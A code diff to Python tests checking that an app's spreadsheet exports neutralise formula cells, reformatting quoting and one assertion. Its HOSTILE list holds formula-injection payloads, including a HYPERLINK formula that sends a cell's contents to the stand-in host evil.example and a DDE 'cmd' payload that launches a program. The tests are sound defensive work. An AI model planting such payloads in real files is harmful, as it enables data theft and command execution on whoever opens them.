@@ -126,7 +126,7 @@ def test_the_pack_is_not_under_a_public_media_address(client, built, general_bus
 
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A9)",
@@ -170,9 +170,7 @@ def test_formula_cells_are_neutralised_in_every_spreadsheet(client, world, gener
             for cell in row:
                 assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@")))
     sheet = load_workbook(io.BytesIO(stored("xlsx"))).active
-    assert any(
-        row[0] == "'" + HOSTILE[0][:60] for row in sheet.iter_rows(values_only=True)
-    )
+    assert any(row[0] == "'" + HOSTILE[0][:60] for row in sheet.iter_rows(values_only=True))
     # The hostile reason: control character dropped, then neutralised, kept whole.
     reasons = [row[8] for row in sheet.iter_rows(min_row=2, values_only=True)]
     assert "'=cmd|x" + "x" * 2000 in reasons
